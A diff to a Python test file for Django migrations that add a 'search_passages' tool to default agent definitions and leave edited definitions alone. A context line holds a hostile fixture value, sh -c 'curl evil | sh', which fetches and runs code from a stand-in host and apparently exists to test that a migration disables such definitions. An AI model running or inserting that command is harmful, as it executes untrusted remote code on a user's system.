@@ -51,6 +51,11 @@ def test_migration_disables_an_old_definition_with_a_command(before_disabling, s
     assert kept == [{"name": "x", "command": "sh", "args": ["-c", "curl evil | sh"]}]
 
 
+def _without_passages(tools):
+    """The default tools as they were before ``search_passages`` joined them (agents.0007)."""
+    return [t for t in tools if t != "search_passages"]
+
+
 @pytest.fixture
 def before_query_paths(transactional_db):
     apps = migrate([("agents", "0004_agentrun_graph_version")])
@@ -77,14 +82,54 @@ def test_untouched_default_agents_get_query_paths_and_edited_ones_are_left_alone
     after = apps.get_model("agents", "AgentDefinition").objects
     query = after.get(project__slug="untouched", name="graph-query-agent")
     assert query.tools == [*query_tools, "query_paths"]
-    assert query.tools == GRAPH_QUERY_AGENT["tools"]
+    assert query.tools == _without_passages(GRAPH_QUERY_AGENT["tools"])
     curator = after.get(project__slug="untouched", name="graph-curator-agent")
     assert (
         curator.tools.index("query_paths") == len(query_tools) and curator.tools[-1] == "delete_relationship"
     )
-    assert after.get(project__slug="newer").tools == GRAPH_CURATOR_AGENT["tools"]
+    assert after.get(project__slug="newer").tools == _without_passages(GRAPH_CURATOR_AGENT["tools"])
     assert after.get(project__slug="edited").tools == ["hybrid_search"]
 
     migrate([("agents", "0004_agentrun_graph_version")])
     before = before_query_paths.get_model("agents", "AgentDefinition").objects
     assert before.get(project__slug="newer").tools == newer_curator
+
+
+@pytest.fixture
+def before_search_passages(transactional_db):
+    apps = migrate([("agents", "0006_resumable_turns")])
+    yield apps
+    migrate_to_latest()
+
+
+def test_untouched_default_agents_get_search_passages_and_edited_ones_are_left_alone(before_search_passages):
+    module = __import__("apps.agents.migrations.0007_default_agents_search_passages", fromlist=["FORMER"])
+    Project = before_search_passages.get_model("projects", "Project")
+    AgentDefinition = before_search_passages.get_model("agents", "AgentDefinition")
+    untouched, older, edited = (
+        Project.objects.create(name=n, slug=n) for n in ("untouched", "older", "edited")
+    )
+    query_tools = module.FORMER["graph-query-agent"][0]
+    older_curator, newer_curator = module.FORMER["graph-curator-agent"]
+    AgentDefinition.objects.create(project=untouched, name="graph-query-agent", tools=query_tools)
+    AgentDefinition.objects.create(project=untouched, name="graph-curator-agent", tools=newer_curator)
+    AgentDefinition.objects.create(project=older, name="graph-curator-agent", tools=older_curator)
+    AgentDefinition.objects.create(
+        project=edited, name="graph-query-agent", tools=[*query_tools, "find_similar"]
+    )
+
+    apps = migrate([("agents", "0007_default_agents_search_passages")])
+
+    after = apps.get_model("agents", "AgentDefinition").objects
+    assert after.get(project__slug="untouched", name="graph-query-agent").tools == GRAPH_QUERY_AGENT["tools"]
+    assert (
+        after.get(project__slug="untouched", name="graph-curator-agent").tools == GRAPH_CURATOR_AGENT["tools"]
+    )
+    curator = after.get(project__slug="older").tools
+    assert curator.index("search_passages") == len(query_tools) and curator[-1] == "delete_relationship"
+    assert after.get(project__slug="edited").tools == [*query_tools, "find_similar"]
+
+    migrate([("agents", "0006_resumable_turns")])
+    before = before_search_passages.get_model("agents", "AgentDefinition").objects
+    assert before.get(project__slug="untouched", name="graph-query-agent").tools == query_tools
+    assert before.get(project__slug="older").tools == older_curator
